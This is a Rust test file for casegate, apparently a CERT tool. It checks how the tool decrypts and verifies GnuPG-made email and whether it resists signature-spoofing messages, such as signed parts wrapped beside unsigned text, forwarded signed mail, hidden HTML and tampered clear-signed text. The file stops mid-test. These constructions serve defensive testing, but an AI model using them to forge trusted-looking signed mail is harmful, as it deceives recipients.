//! GnuPG → casegate interop for the "open" stage, and the attacks on signatures and
//! encryption that `open` must not fall for. Every message is made by real gpg at test time.

#[path = "support_gpg/mod.rs"]
mod support_gpg;

use casegate::keyring::{self, Keyring};
use casegate::open::{Encryption, OpenError, Opened, SignatureFacts, open};
use casegate::verdict::{SignatureVerdict, ThreadContact, signature_verdict};
use support_gpg::*;

// ---------------------------------------------------------------------------------------
// Building messages around gpg output (tests build MIME by hand on purpose: the attacks
// need exact control over structure).

fn headers(from: &str, subject: &str) -> String {
    format!(
        "From: Sender <{from}>\r\nTo: CERT <{COORDINATOR}>\r\nSubject: {subject}\r\n\
         Message-ID: <{}@test.example>\r\nDate: Mon, 02 Mar 2026 10:00:00 +0000\r\nMIME-Version: 1.0\r\n",
        subject.len()
    )
}

fn message(from: &str, subject: &str, entity: &str) -> Vec<u8> {
    format!("{}{}", headers(from, subject), entity).into_bytes()
}

fn s(b: &[u8]) -> String {
    String::from_utf8(b.to_vec()).unwrap()
}

/// An RFC 3156 multipart/encrypted entity around armored ciphertext.
fn pgp_mime_entity(armored: &[u8]) -> String {
    format!(
        "Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=\"enc-b\"\r\n\r\n\
         This is an OpenPGP/MIME encrypted message (RFC 4880 and 3156)\r\n\
         --enc-b\r\nContent-Type: application/pgp-encrypted\r\nContent-Description: PGP/MIME version identification\r\n\r\nVersion: 1\r\n\r\n\
         --enc-b\r\nContent-Type: application/octet-stream; name=\"encrypted.asc\"\r\n\
         Content-Disposition: inline; filename=\"encrypted.asc\"\r\n\r\n{}\r\n--enc-b--\r\n",
        crlf(&s(armored)).trim_end()
    )
}

/// MIME wants CRLF; gpg writes LF.
fn crlf(text: &str) -> String {
    text.replace("\r\n", "\n").replace('\n', "\r\n")
}

/// An RFC 3156 multipart/signed entity: `part` is the signed entity, verbatim.
fn signed_entity(part: &str, sig: &[u8], micalg: &str) -> String {
    format!(
        "Content-Type: multipart/signed; micalg={micalg}; protocol=\"application/pgp-signature\"; boundary=\"sig-b\"\r\n\r\n\
         This is an OpenPGP/MIME signed message (RFC 4880 and 3156)\r\n\
         --sig-b\r\n{part}\r\n--sig-b\r\nContent-Type: application/pgp-signature; name=\"signature.asc\"\r\n\
         Content-Disposition: attachment; filename=\"signature.asc\"\r\n\r\n{}\r\n--sig-b--\r\n",
        s(sig).trim_end()
    )
}

fn text_entity(body: &str) -> String {
    format!(
        "Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 7bit\r\n\r\n{body}"
    )
}

/// gpg encrypts `data` to `to` (armored), optionally signing as `signer`.
fn encrypt(to: &[&str], signer: Option<&str>, data: &[u8], extra: &[&str]) -> Vec<u8> {
    let f = fixture();
    let mut args: Vec<String> = extra.iter().map(|s| s.to_string()).collect();
    args.push("--encrypt".into());
    for r in to {
        args.push("-r".into());
        args.push(r.to_string());
    }
    if let Some(u) = signer {
        args.extend(["--sign".into(), "-u".into(), u.to_string()]);
    }
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    f.gpg.run(&args, Some(data))
}

fn encrypt_armored(to: &[&str], signer: Option<&str>, data: &[u8]) -> Vec<u8> {
    encrypt(to, signer, data, &["--armor"])
}

fn coordinator_fpr() -> String {
    fixture().coordinator.fingerprint().to_hex()
}

fn detach_sign(signer: &str, data: &[u8], extra: &[&str]) -> Vec<u8> {
    let mut args = extra.to_vec();
    args.extend(["--armor", "--detach-sign", "-u", signer]);
    fixture().gpg.run(&args, Some(data))
}

fn clearsign(signer: &str, text: &str) -> String {
    s(&fixture()
        .gpg
        .run(&["--clearsign", "-u", signer], Some(text.as_bytes())))
}

fn opened(raw: &[u8]) -> Opened {
    match open(raw, &fixture().keyring) {
        Ok(o) => o,
        Err(e) => panic!(
            "open failed: {e}\n--- message ---\n{}",
            String::from_utf8_lossy(raw)
        ),
    }
}

fn inner_text(o: &Opened) -> String {
    String::from_utf8_lossy(o.inner.as_ref().expect("inner entity")).into_owned()
}

/// The reader-visible text bodies of the inner entity, as mail-parser sees them.
fn inner_bodies(o: &Opened) -> String {
    let raw = o.inner.as_ref().expect("inner entity");
    let msg = mail_parser::MessageParser::default().parse(raw).unwrap();
    let mut out = String::new();
    for i in 0..msg.text_body_count() {
        out.push_str(&msg.body_text(i).unwrap());
        out.push('\n');
    }
    for a in msg.attachments() {
        out.push_str(&String::from_utf8_lossy(a.contents()));
        out.push('\n');
    }
    out
}

fn valid_by(o: &Opened, fpr: &str, email: &str) {
    match &o.signature {
        SignatureFacts::Valid { cert, emails, .. } => {
            assert_eq!(cert, fpr);
            assert!(emails.iter().any(|e| e == email), "{emails:?}");
        }
        other => panic!(
            "expected a valid signature by {fpr}, got {other:?}\nnotes: {:?}",
            o.notes
        ),
    }
}

fn partial_sig(o: &Opened) -> String {
    match &o.signature {
        SignatureFacts::Partial { reason } => reason.clone(),
        other => panic!(
            "expected a partial signature, got {other:?}\nnotes: {:?}",
            o.notes
        ),
    }
}

fn bad_sig(o: &Opened) -> String {
    match &o.signature {
        SignatureFacts::Bad { reason } => reason.clone(),
        other => panic!(
            "expected a bad signature, got {other:?}\nnotes: {:?}",
            o.notes
        ),
    }
}

fn full_enc(o: &Opened) -> Vec<String> {
    match &o.encryption {
        Encryption::Full { recipients } => recipients.clone(),
        other => panic!(
            "expected full encryption, got {other:?}\nnotes: {:?}",
            o.notes
        ),
    }
}

fn partial_enc(o: &Opened) -> String {
    match &o.encryption {
        Encryption::Partial { reason } => reason.clone(),
        other => panic!(
            "expected partial encryption, got {other:?}\nnotes: {:?}",
            o.notes
        ),
    }
}

// ---------------------------------------------------------------------------------------
// Keys

#[test]
fn coordinator_public_key_imports_into_gpg_with_encryption_and_signing_subkeys() {
    let f = fixture();
    let fpr = coordinator_fpr();
    let listing = s(&f.gpg.run(&["--with-colons", "--list-keys", &fpr], None));
    // The one user ID, as gpg reads it (field 10 of the `uid` record), not revoked or expired
    // (field 2 is neither `r` nor `e`).
    let uids: Vec<&str> = listing.lines().filter(|l| l.starts_with("uid:")).collect();
    assert_eq!(uids.len(), 1, "{listing}");
    let fields: Vec<&str> = uids[0].split(':').collect();
    assert_eq!(
        fields[9],
        format!("casegate coordinator <{COORDINATOR}>"),
        "{listing}"
    );
    assert!(!["r", "e", "i"].contains(&fields[1]), "{listing}");
    // Primary certifies only; one signing and one encryption subkey.
    let pub_line = listing.lines().find(|l| l.starts_with("pub:")).unwrap();
    let caps = pub_line.split(':').nth(11).unwrap();
    assert!(
        caps.contains('c') && !caps.contains('s') && !caps.contains('e'),
        "{caps}"
    );
    let subs: Vec<&str> = listing
        .lines()
        .filter(|l| l.starts_with("sub:"))
        .map(|l| l.split(':').nth(11).unwrap())
        .collect();
    assert!(subs.iter().any(|c| c.contains('s')), "{subs:?}");
    assert!(subs.iter().any(|c| c.contains('e')), "{subs:?}");
    // And gpg can use it: what gpg encrypts to it, casegate decrypts; and casegate's exported
    // cert round-trips through gpg unchanged.
    let ct = encrypt_armored(&[&fpr], None, b"to the coordinator\n");
    let o = opened(&message(VENDOR, "x", &text_entity(&s(&ct))));
    assert_eq!(full_enc(&o), vec![f.coordinator_enc_keyid()]);
    let back = keyring::parse_certs(&f.gpg.export(&fpr)).unwrap();
    assert_eq!(back[0].fingerprint(), f.coordinator.fingerprint());
    assert!(!back[0].is_tsk());
}

#[test]
fn gpg_keys_summarize() {
    let f = fixture();
    let certs = keyring::parse_certs(&f.gpg.export(&f.vendor)).unwrap();
    let sum = keyring::summarize(&certs[0]);
    assert_eq!(sum.fingerprint, f.vendor);
    assert_eq!(sum.emails, vec![VENDOR.to_string()]);
    assert!(sum.can_encrypt && sum.can_sign && !sum.expired && !sum.revoked);
    assert!(keyring::encryption_key_valid(&certs[0]).is_ok());

    let old = keyring::parse_certs(&f.gpg.export(&f.old)).unwrap();
    let sum = keyring::summarize(&old[0]);
    assert!(sum.expired && !sum.can_sign, "{sum:?}");
    assert!(keyring::encryption_key_valid(&old[0]).is_err());

    let revoked = keyring::parse_certs(&f.gpg.export(&f.revoked)).unwrap();
    let sum = keyring::summarize(&revoked[0]);
    assert!(sum.revoked && !sum.can_sign, "{sum:?}");
    let err = keyring::encryption_key_valid(&revoked[0]).unwrap_err();
    assert!(err.contains("revoked"), "{err}");

    // A valid sign-only key (no encryption subkey) is not a valid encryption key.
    let sign_only = f.gpg.gen_key(
        "Signer <signonly@foocorp.example>",
        "ed25519",
        "sign",
        "never",
        &[],
    );
    let certs = keyring::parse_certs(&f.gpg.export(&sign_only)).unwrap();
    let sum = keyring::summarize(&certs[0]);
    assert!(
        sum.can_sign && !sum.can_encrypt && !sum.expired && !sum.revoked,
        "{sum:?}"
    );
    let err = keyring::encryption_key_valid(&certs[0]).unwrap_err();
    assert!(err.contains("no valid encryption-capable key"), "{err}");
}

// ---------------------------------------------------------------------------------------
// Decryption, every format

const PROTECTED: &str = "Content-Type: multipart/mixed; boundary=\"inner-b\"; protected-headers=\"v1\"\r\n\
    Subject: [VU#409117] protected subject\r\n\
    From: Sender <psirt@foocorp.example>\r\n\r\n\
    --inner-b\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nThe secret advisory text.\r\n--inner-b--\r\n";

#[test]
fn pgp_mime_encrypted_only() {
    let f = fixture();
    let ct = encrypt_armored(&[&coordinator_fpr()], None, PROTECTED.as_bytes());
    let raw = message(VENDOR, "...", &pgp_mime_entity(&ct));
    let o = opened(&raw);
    assert_eq!(full_enc(&o), vec![f.coordinator_enc_keyid()]);
    assert_eq!(o.signature, SignatureFacts::None);
    assert_eq!(
        o.protected_subject.as_deref(),
        Some("[VU#409117] protected subject")
    );
    assert!(inner_bodies(&o).contains("The secret advisory text."));
    assert!(inner_text(&o).contains("protected-headers"));
}

#[test]
fn pgp_mime_signed_and_encrypted_rsa3072() {
    let f = fixture();
    let ct = encrypt_armored(&[&coordinator_fpr()], Some(&f.vendor), PROTECTED.as_bytes());
    let o = opened(&message(VENDOR, "...", &pgp_mime_entity(&ct)));
    full_enc(&o);
    valid_by(&o, &f.vendor, VENDOR);
    assert_eq!(
        o.protected_subject.as_deref(),
        Some("[VU#409117] protected subject")
    );
}

#[test]
fn pgp_mime_signed_and_encrypted_cv25519() {
    let f = fixture();
    let ct = encrypt_armored(
        &[&coordinator_fpr()],
        Some(&f.reporter),
        PROTECTED.as_bytes(),
    );
    let o = opened(&message(REPORTER, "...", &pgp_mime_entity(&ct)));
    full_enc(&o);
    valid_by(&o, &f.reporter, REPORTER);
}

#[test]
fn pgp_mime_binary_ciphertext_is_accepted_too() {
    // Some clients put binary (base64-transferred) OpenPGP in the second part.
    use base64::Engine;
    let f = fixture();
    let ct = encrypt(
        &[&coordinator_fpr()],
        Some(&f.vendor),
        PROTECTED.as_bytes(),
        &[],
    );
    let b64 = base64::engine::general_purpose::STANDARD.encode(&ct);
    let wrapped: String = b64
        .as_bytes()
        .chunks(76)
        .map(|c| format!("{}\r\n", std::str::from_utf8(c).unwrap()))
        .collect();
    let entity = format!(
        "Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=\"e\"\r\n\r\n\
         --e\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n\r\n\
         --e\r\nContent-Type: application/octet-stream\r\nContent-Transfer-Encoding: base64\r\n\r\n{wrapped}--e--\r\n"
    );
    let o = opened(&message(VENDOR, "x", &entity));
    full_enc(&o);
    valid_by(&o, &f.vendor, VENDOR);
}

#[test]
fn signed_then_encrypted_with_multipart_signed_inside() {
    let f = fixture();
    let part = text_entity("Inner signed text.\r\nSecond line.\r\n");
    let sig = detach_sign(&f.reporter, part.as_bytes(), &[]);
    let inner = signed_entity(&part, &sig, "pgp-sha256");
    let inner = format!("Subject: [VU#409117] inner\r\n{inner}");
    let ct = encrypt_armored(&[&coordinator_fpr()], None, inner.as_bytes());
    let o = opened(&message(REPORTER, "...", &pgp_mime_entity(&ct)));
    full_enc(&o);
    valid_by(&o, &f.reporter, REPORTER);
    assert_eq!(o.protected_subject.as_deref(), Some("[VU#409117] inner"));
    assert!(inner_bodies(&o).contains("Inner signed text."));
}

#[test]
fn encrypted_then_signed_multipart_signed_wrapping_multipart_encrypted() {
    let f = fixture();
    let ct = encrypt_armored(&[&coordinator_fpr()], None, PROTECTED.as_bytes());
    let enc = pgp_mime_entity(&ct);
    // The signed data is the entity without its final CRLF (the CRLF before the boundary
    // belongs to the boundary).
    let enc = enc.trim_end_matches("\r\n").to_string();
    let sig = detach_sign(&f.vendor, enc.as_bytes(), &[]);
    let o = opened(&message(
        VENDOR,
        "...",
        &signed_entity(&enc, &sig, "pgp-sha256"),
    ));
    full_enc(&o);
    valid_by(&o, &f.vendor, VENDOR);
    assert_eq!(
        o.protected_subject.as_deref(),
        Some("[VU#409117] protected subject")
    );
    assert!(inner_bodies(&o).contains("The secret advisory text."));
}

#[test]
fn multiple_recipients_of_which_we_are_one() {
    let f = fixture();
    let ct = encrypt_armored(
        &[&f.vendor, &coordinator_fpr(), &f.stranger],
        Some(&f.vendor),
        PROTECTED.as_bytes(),
    );
    let o = opened(&message(VENDOR, "...", &pgp_mime_entity(&ct)));
    let mut got = full_enc(&o);
    got.sort();
    let mut want = vec![
        f.enc_keyid(&f.vendor),
        f.coordinator_enc_keyid(),
        f.enc_keyid(&f.stranger),
    ];
    want.sort();
    assert_eq!(got, want);
    valid_by(&o, &f.vendor, VENDOR);
}

#[test]
fn inline_pgp_whole_text_plain_body() {
    let f = fixture();
    let ct = encrypt_armored(&[&coordinator_fpr()], Some(&f.vendor), b"Inline secret.\n");
    let o = opened(&message(
        VENDOR,
        "[VU#409117] inline",
        &text_entity(&s(&ct)),
    ));
    full_enc(&o);
    valid_by(&o, &f.vendor, VENDOR);
    assert_eq!(o.protected_subject, None);
    let body = inner_bodies(&o);
    assert!(body.contains("Inline secret."), "{body}");
    assert!(!body.contains("BEGIN PGP"), "{body}");
}

#[test]
fn inline_pgp_block_inside_other_text_is_partial() {
    let f = fixture();
    let ct = encrypt_armored(&[&coordinator_fpr()], Some(&f.vendor), b"Inline secret.\n");
    let body = format!(
        "Hello CERT,\r\nsee below.\r\n\r\n{}\r\nRegards, and please wire money.\r\n",
        s(&ct)
    );
    let o = opened(&message(VENDOR, "x", &text_entity(&body)));
    let reason = partial_enc(&o);
    assert!(reason.contains("inside unencrypted text"), "{reason}");
    let reason = partial_sig(&o);
    assert!(
        reason.contains(&f.vendor) && reason.contains("inline block"),
        "{reason}"
    );
    let text = inner_bodies(&o);
    assert!(
        text.contains("Hello CERT")
            && text.contains("Inline secret.")
            && text.contains("wire money"),
        "{text}"
    );
}

#[test]
fn inline_pgp_in_webmail_html() {
    let f = fixture();
    let ct = s(&encrypt_armored(
        &[&coordinator_fpr()],
        Some(&f.reporter),
        b"Secret from webmail.\n",
    ));
    // How webmail sends it: one <br> per line, spaces as &nbsp;, inside a div.
    let html_armor: String = ct
        .lines()
        .map(|l| format!("&nbsp;{}<br>\r\n", l.replace(' ', "&nbsp;")))
        .collect();
    let html = format!(
        "<html><head><style>div {{ font-family: monospace }}</style></head><body><div dir=\"ltr\">{html_armor}</div></body></html>"
    );
    let entity = format!("Content-Type: text/html; charset=utf-8\r\n\r\n{html}\r\n");
    let o = opened(&message(REPORTER, "x", &entity));
    full_enc(&o);
    valid_by(&o, &f.reporter, REPORTER);
    assert!(inner_bodies(&o).contains("Secret from webmail."));

    // Inside <pre>, with quoted-printable transfer encoding.
    let pre = format!("<html><body><pre>{ct}</pre></body></html>");
    let qp = pre.replace('=', "=3D");
    let entity = format!(
        "Content-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n{qp}\r\n"
    );
    let o = opened(&message(REPORTER, "x", &entity));
    full_enc(&o);
    valid_by(&o, &f.reporter, REPORTER);
}

#[test]
fn inline_pgp_in_both_alternatives() {
    let ct = s(&encrypt_armored(
        &[&coordinator_fpr()],
        None,
        b"Alt secret.\n",
    ));
    let html: String = ct.lines().map(|l| format!("{l}<br>")).collect();
    let entity = format!(
        "Content-Type: multipart/alternative; boundary=\"alt\"\r\n\r\n--alt\r\n{}\r\n--alt\r\n\
         Content-Type: text/html\r\n\r\n<div>{html}</div>\r\n--alt--\r\n",
        text_entity(&ct)
    );
    let o = opened(&message(VENDOR, "x", &entity));
    full_enc(&o);
    assert_eq!(o.signature, SignatureFacts::None);
    assert!(inner_bodies(&o).contains("Alt secret."));
}

#[test]
fn encrypted_asc_attachment_beside_plaintext_body_is_partial() {
    let f = fixture();
    let ct = s(&encrypt_armored(
        &[&coordinator_fpr()],
        Some(&f.vendor),
        b"Attached secret report.\n",
    ));
    let entity = format!(
        "Content-Type: multipart/mixed; boundary=\"mix\"\r\n\r\n--mix\r\n{}\r\n--mix\r\n\
         Content-Type: application/octet-stream; name=\"report.txt.asc\"\r\n\
         Content-Disposition: attachment; filename=\"report.txt.asc\"\r\n\r\n{ct}\r\n--mix--\r\n",
        text_entity("Please find the report attached.\r\n")
    );
    let o = opened(&message(VENDOR, "x", &entity));
    let reason = partial_enc(&o);
    assert!(reason.contains("1 of 2"), "{reason}");
    let reason = partial_sig(&o);
    assert!(reason.contains(&f.vendor), "{reason}");
    let text = inner_bodies(&o);
    assert!(
        text.contains("Please find the report attached.")
            && text.contains("Attached secret report."),
        "{text}"
    );
    // The decrypted attachment carries its name without the .asc.
    let inner = o.inner.as_ref().unwrap();
    let msg = mail_parser::MessageParser::default().parse(inner).unwrap();
    use mail_parser::MimeHeaders;
    assert!(
        msg.attachments()
            .any(|a| a.attachment_name() == Some("report.txt"))
    );
}

#[test]
fn binary_gpg_attachment_with_empty_body_is_fully_encrypted() {
    use base64::Engine;
    let bin = encrypt(
        &[&coordinator_fpr()],
        None,
        b"\x00\x01binary secret\xff",
        &["--set-filename", "dump.bin"],
    );
    let b64 = base64::engine::general_purpose::STANDARD.encode(&bin);
    let entity = format!(
        "Content-Type: multipart/mixed; boundary=\"mix\"\r\n\r\n--mix\r\n{}\r\n--mix\r\n\
         Content-Type: application/pgp-encrypted; name=\"dump.bin.gpg\"\r\n\
         Content-Disposition: attachment; filename=\"dump.bin.gpg\"\r\nContent-Transfer-Encoding: base64\r\n\r\n{b64}\r\n--mix--\r\n",
        text_entity("\r\n")
    );
    let o = opened(&message(VENDOR, "x", &entity));
    full_enc(&o);
    let inner = o.inner.as_ref().unwrap();
    let msg = mail_parser::MessageParser::default().parse(inner).unwrap();
    use mail_parser::MimeHeaders;
    let a = msg.attachments().next().unwrap();
    assert_eq!(a.attachment_name(), Some("dump.bin"));
    assert_eq!(a.contents(), b"\x00\x01binary secret\xff");
}

// ---------------------------------------------------------------------------------------
// Verification

#[test]
fn multipart_signed_rsa_sha256_and_cv25519_sha512() {
    let f = fixture();
    for (key, email, micalg, digest) in [
        (&f.vendor, VENDOR, "pgp-sha256", "SHA256"),
        (&f.reporter, REPORTER, "pgp-sha512", "SHA512"),
    ] {
        let part =
            text_entity("Signed body, line one.\r\nFrom the start of a line.\r\n-- \r\nsig\r\n");
        let sig = detach_sign(key, part.as_bytes(), &["--digest-algo", digest]);
        let raw = message(
            email,
            "[VU#409117] signed",
            &signed_entity(&part, &sig, micalg),
        );
        let o = opened(&raw);
        assert_eq!(o.encryption, Encryption::None);
        valid_by(&o, key, email);
        assert_eq!(
            o.inner, None,
            "nothing decrypted: the outer message is what is seen"
        );

        // The same message stored with bare LF line endings (Maildir, mbox) still verifies.
        let lf = String::from_utf8(raw).unwrap().replace("\r\n", "\n");
        let o = opened(lf.as_bytes());
        valid_by(&o, key, email);
    }
}

#[test]
fn multipart_signed_over_nested_multipart_with_attachment() {
    let f = fixture();
    let part = "Content-Type: multipart/mixed; boundary=\"in\"\r\n\r\n--in\r\n\
                Content-Type: text/plain\r\n\r\nBody.\r\n--in\r\n\
                Content-Type: application/octet-stream; name=\"poc.py\"\r\nContent-Disposition: attachment; filename=\"poc.py\"\r\n\
                Content-Transfer-Encoding: base64\r\n\r\ncHJpbnQoMSkK\r\n--in--";
    let sig = detach_sign(&f.vendor, part.as_bytes(), &[]);
    let o = opened(&message(
        VENDOR,
        "x",
        &signed_entity(part, &sig, "pgp-sha256"),
    ));
    valid_by(&o, &f.vendor, VENDOR);
}

#[test]
fn clear_signed_text() {
    let f = fixture();
    let cs = clearsign(
        &f.vendor,
        "We confirm the issue.\n- dash line\nFrom here.\n",
    );
    let o = opened(&message(VENDOR, "x", &text_entity(&cs)));
    assert_eq!(o.encryption, Encryption::None);
    valid_by(&o, &f.vendor, VENDOR);
    let body = inner_bodies(&o);
    assert!(
        body.contains("We confirm the issue.") && body.contains("- dash line"),
        "{body}"
    );
    assert!(!body.contains("BEGIN PGP"), "{body}");
}

#[test]
fn clear_signed_text_with_text_outside_is_partial() {
    let f = fixture();
    let cs = clearsign(&f.vendor, "We confirm the issue.\n");
    let body = format!("UPDATE: we retract everything below.\r\n\r\n{cs}");
    let o = opened(&message(VENDOR, "x", &text_entity(&body)));
    let reason = partial_sig(&o);
    assert!(reason.contains(&f.vendor), "{reason}");
    assert_eq!(o.encryption, Encryption::None);
}

#[test]
fn inline_signed_and_encrypted_clearsigned_plaintext() {
    // Sign first (clear-signed text), then encrypt the whole thing inline.
    let f = fixture();
    let cs = clearsign(&f.reporter, "Clear-signed, then encrypted.\n");
    let ct = encrypt_armored(&[&coordinator_fpr()], None, cs.as_bytes());
    let o = opened(&message(REPORTER, "x", &text_entity(&s(&ct))));
    full_enc(&o);
    valid_by(&o, &f.reporter, REPORTER);
}

// ---------------------------------------------------------------------------------------
// "Johnny, you are fired" classes: never call a message signed when it is not.

fn signed_part_and_sig() -> (String, Vec<u8>) {
    let f = fixture();
    let part = text_entity("Genuine vendor statement.\r\n");
    let sig = detach_sign(&f.vendor, part.as_bytes(), &[]);
    (part, sig)
}

#[test]
fn attack_signed_part_next_to_unsigned_part() {
    let f = fixture();
    let (part, sig) = signed_part_and_sig();
    let entity = format!(
        "Content-Type: multipart/mixed; boundary=\"w\"\r\n\r\n--w\r\n{}\r\n--w\r\n{}\r\n--w--\r\n",
        signed_entity(&part, &sig, "pgp-sha256"),
        text_entity("Attacker's unsigned addition: the fix is in 9.9.\r\n")
    );
    let o = opened(&message(VENDOR, "x", &entity));
    let reason = partial_sig(&o);
    assert!(reason.contains("part 1 of 2"), "{reason}");
    assert!(reason.contains(&f.vendor), "{reason}");
    let v = signature_verdict(
        &o.signature,
        Some(VENDOR),
        &[ThreadContact {
            address: VENDOR.into(),
            key_fingerprints: vec![f.vendor.clone()],
        }],
    );
    assert_eq!(v.signature, SignatureVerdict::None);
    assert!(v.reason.starts_with("partial:"), "{}", v.reason);
}

#[test]
fn attack_signed_part_in_unsigned_wrapper() {
    let (part, sig) = signed_part_and_sig();
    for sub in ["mixed", "related", "alternative"] {
        let entity = format!(
            "Content-Type: multipart/{sub}; boundary=\"w\"\r\n\r\n--w\r\n{}\r\n--w--\r\n",
            signed_entity(&part, &sig, "pgp-sha256")
        );
        let o = opened(&message(VENDOR, "x", &entity));
        if sub == "alternative" {
            // A single alternative that is fully signed: whichever alternative the reader's
            // client shows, it is this signed part, so the message counts as signed.
            valid_by(&o, &fixture().vendor, VENDOR);
            continue;
        }
        // A mixed/related wrapper of one part still could carry more parts in another
        // client's view (and is how attacks start): reported as partial.
        let reason = partial_sig(&o);
        assert!(reason.contains("wrapper"), "{reason}");
    }
    // Hidden in multipart/related next to HTML that the reader would see instead.
    let entity = format!(
        "Content-Type: multipart/related; boundary=\"w\"\r\n\r\n--w\r\nContent-Type: text/html\r\n\r\n\
         <b>Attacker text</b><div style=\"display:none\">\r\n--w\r\n{}\r\n--w--\r\n",
        signed_entity(&part, &sig, "pgp-sha256")
    );
    partial_sig(&opened(&message(VENDOR, "x", &entity)));
}

#[test]
fn attack_forwarded_signed_message() {
    let f = fixture();
    let (part, sig) = signed_part_and_sig();
    let forwarded = format!(
        "{}{}",
        headers(VENDOR, "original"),
        signed_entity(&part, &sig, "pgp-sha256")
    );
    let entity = format!(
        "Content-Type: multipart/mixed; boundary=\"fw\"\r\n\r\n--fw\r\n{}\r\n--fw\r\n\
         Content-Type: message/rfc822\r\n\r\n{forwarded}\r\n--fw--\r\n",
        text_entity("FYI, forwarding the vendor's statement.\r\n")
    );
    let o = opened(&message(REPORTER, "Fwd", &entity));
    let reason = partial_sig(&o);
    assert!(reason.contains("forwarded"), "{reason}");
    assert!(reason.contains(&f.vendor), "{reason}");

    // Even a forward that is the only content is not a signed message.
    let entity = format!("Content-Type: message/rfc822\r\n\r\n{forwarded}");
    let reason = partial_sig(&opened(&message(REPORTER, "Fwd", &entity)));
    assert!(reason.contains("forwarded"), "{reason}");
}

#[test]
fn attack_signed_attachment_only() {
    let f = fixture();
    // An inline-signed (gpg --sign) attachment beside an unsigned body.
    let signed = f.gpg.run(
        &["--sign", "--armor", "-u", &f.vendor],
        Some(b"signed attachment content\n"),
    );
    let entity = format!(
        "Content-Type: multipart/mixed; boundary=\"m\"\r\n\r\n--m\r\n{}\r\n--m\r\n\
         Content-Type: application/octet-stream; name=\"statement.txt.asc\"\r\n\
         Content-Disposition: attachment; filename=\"statement.txt.asc\"\r\n\r\n{}\r\n--m--\r\n",
        text_entity("Unsigned body claiming things.\r\n"),
        s(&signed)
    );
    let o = opened(&message(VENDOR, "x", &entity));
    partial_sig(&o);
    assert_eq!(o.encryption, Encryption::None);

    // A file with a detached signature file next to it.
    let data = b"%PDF-1.4 advisory\n";
    let sig = f.gpg.run(&["--detach-sign", "-u", &f.vendor], Some(data));
    use base64::Engine;
    let b64 = |b: &[u8]| base64::engine::general_purpose::STANDARD.encode(b);
    let entity = format!(
        "Content-Type: multipart/mixed; boundary=\"m\"\r\n\r\n--m\r\n{}\r\n--m\r\n\
         Content-Type: application/pdf; name=\"adv.pdf\"\r\nContent-Disposition: attachment; filename=\"adv.pdf\"\r\n\
         Content-Transfer-Encoding: base64\r\n\r\n{}\r\n--m\r\n\
         Content-Type: application/pgp-signature; name=\"adv.pdf.sig\"\r\nContent-Disposition: attachment; filename=\"adv.pdf.sig\"\r\n\
         Content-Transfer-Encoding: base64\r\n\r\n{}\r\n--m--\r\n",
        text_entity("Advisory attached.\r\n"),
        b64(data),
        b64(&sig)
    );
    let o = opened(&message(VENDOR, "x", &entity));
    let reason = partial_sig(&o);
    assert!(
        reason.contains("attachment adv.pdf") && reason.contains(&f.vendor),
        "{reason}"
    );
}

#[test]
fn attack_signature_over_a_different_body() {
    let (_, sig) = signed_part_and_sig();
    let other = text_entity("Attacker's body under the vendor's signature.\r\n");
    let o = opened(&message(
        VENDOR,
        "x",
        &signed_entity(&other, &sig, "pgp-sha256"),
    ));
    let reason = bad_sig(&o);
    assert!(
        reason.contains("does not verify") || reason.contains("Bad signature"),
        "{reason}"
    );
}

#[test]
fn attack_modified_signed_text() {
    let f = fixture();
    let (part, sig) = signed_part_and_sig();
    let tampered = part.replace("Genuine", "Genuinf");
    bad_sig(&opened(&message(
        VENDOR,
        "x",
        &signed_entity(&tampered, &sig, "pgp-sha256"),
    )));

    let cs = clearsign(&f.vendor, "Fixed in version 2.0.\n").replace("2.0", "9.9");
    bad_sig(&opened(&message(VENDOR, "x", &text_entity(&cs))));

    // Added lines after the signed text but inside the block markers are part of the hash.
    let cs = clearsign(&f.vendor, "Fixed in version 2.0.\n").replace(
        "Fixed in version 2.0.",
        "Fixed in version 2.0.\nNot really.",
    );
    bad_sig(&opened(&message(VENDOR, "x", &text_entity(&cs))));
}

#[test]
fn attack_multipart_signed_with_extra_part_or_wrong_protocol() {
    let (part, sig) = signed_part_and_sig();
    let entity = format!(
        "Content-Type: multipart/signed; micalg=pgp-sha256; protocol=\"application/pgp-signature\"; boundary=\"b\"\r\n\r\n\
         --b\r\n{part}\r\n--b\r\nContent-Type: application/pgp-signature\r\n\r\n{}\r\n--b\r\n{}\r\n--b--\r\n",
        s(&sig),
        text_entity("smuggled third part\r\n")
    );
    let o = opened(&message(VENDOR, "x", &entity));
    assert!(
        !matches!(o.signature, SignatureFacts::Valid { .. }),
        "{:?}",
        o.signature
    );
    // The same two parts, signature intact, but the container does not say it is OpenPGP:
    // S/MIME's protocol, or none at all. Not an OpenPGP signature of the message.
    let genuine = signed_entity(&part, &sig, "pgp-sha256");
    valid_by(
        &opened(&message(VENDOR, "x", &genuine)),
        &fixture().vendor,
        VENDOR,
    );
    for wrong in [
        genuine.replace(
            "application/pgp-signature\"",
            "application/pkcs7-signature\"",
        ),
        genuine.replace(" protocol=\"application/pgp-signature\";", ""),
    ] {
        assert_ne!(wrong, genuine);
        let o = opened(&message(VENDOR, "x", &wrong));
        assert_eq!(o.signature, SignatureFacts::None, "{wrong}");
        assert!(
            o.notes
                .iter()
                .any(|n| n.starts_with("multipart/signed with protocol")
                    && n.ends_with("was not checked")),
            "{:?}",
            o.notes
        );
    }
}

#[test]
fn signature_by_expired_key_is_bad() {
    let f = fixture();
    let o = opened(&message(OLD, "x", &text_entity(&s(&f.old_signed))));
    let reason = bad_sig(&o);
    assert!(reason.contains("expired"), "{reason}");
}

#[test]
fn signature_by_revoked_key_is_bad() {
    let f = fixture();
    let o = opened(&message(REVOKED, "x", &text_entity(&s(&f.revoked_signed))));
    let reason = bad_sig(&o);
    assert!(reason.contains("revoked"), "{reason}");
}

#[test]
fn signature_by_unknown_key() {
    let f = fixture();
    let cs = clearsign(&f.stranger, "Who am I?\n");
    let o = opened(&message(STRANGER, "x", &text_entity(&cs)));
    match &o.signature {
        SignatureFacts::UnknownKey { issuer } => assert_eq!(issuer, &f.stranger),
        other => panic!("{other:?}"),
    }
    // And inside encryption.
    let ct = encrypt_armored(
        &[&coordinator_fpr()],
        Some(&f.stranger),
